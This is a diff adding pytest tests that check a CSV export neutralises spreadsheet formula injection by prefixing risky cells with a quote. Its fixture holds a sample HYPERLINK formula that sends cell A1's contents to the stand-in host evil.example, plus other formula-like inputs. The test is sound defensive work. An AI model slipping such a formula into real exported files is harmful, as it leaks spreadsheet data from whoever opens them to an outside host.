@@ -110,6 +110,43 @@ def test_csv_keeps_commas_quotes_and_newlines_in_one_cell(tmp_path: Path) -> Non
     assert (rows[0]["a_name"], rows[0]["b_name"]) == ('Saint-Denis, "the city"', "Line\nBreak")
 
 
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+@pytest.fixture
+def injected_csv(tmp_path: Path) -> tuple[dict[str, str], str]:
+    """A reviewed record whose evidence, party names and note are spreadsheet formulas, as CSV."""
+    record = make_record(("@SUM(A1:A9)", "UA"), ("-2+3", "IT"), prefix=f"{HYPERLINK} ", title="+Town news")
+    records = write_records(tmp_path / "r.jsonl", [record])
+    store = Store(tmp_path / "review.sqlite")
+    store.decide(record.id, "accepted", "ana", 0)
+    store.set_note(record.id, "\t=1+1 check", "ana", 1)
+    assert run(records, None, tmp_path / "out.csv", "--format", "csv") == 0
+    text = (tmp_path / "out.csv").read_text("utf-8")
+    return list(csv.DictReader(io.StringIO(text, newline="")))[0], text
+
+
+@pytest.mark.parametrize(("column", "expected"), [
+    ("evidence", f"'{HYPERLINK} @SUM(A1:A9) and -2+3 signed a twinning agreement in June 2022."),
+    ("a_name", "'@SUM(A1:A9)"),
+    ("a_text", "'@SUM(A1:A9)"),
+    ("b_name", "'-2+3"),
+    ("source_title", "'+Town news"),
+    ("review_note", "'\t=1+1 check"),
+    ("confidence", "0.5"),
+])
+def test_csv_cells_cannot_become_formulas(injected_csv: tuple[dict[str, str], str], column: str,
+                                          expected: str) -> None:
+    row, _ = injected_csv
+    assert row[column] == expected
+
+
+def test_csv_formula_guard_sits_inside_the_quoted_cell(injected_csv: tuple[dict[str, str], str]) -> None:
+    _, text = injected_csv
+    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"") ' in text
+    assert ',"=' not in text and "\n=" not in text and ",=" not in text
+
+
 def test_as_gold_writes_one_document_per_source(reviewed: tuple[Path, Path], tmp_path: Path) -> None:
     records, db = reviewed
     run(records, db, tmp_path / "gold.jsonl", "--as-gold")
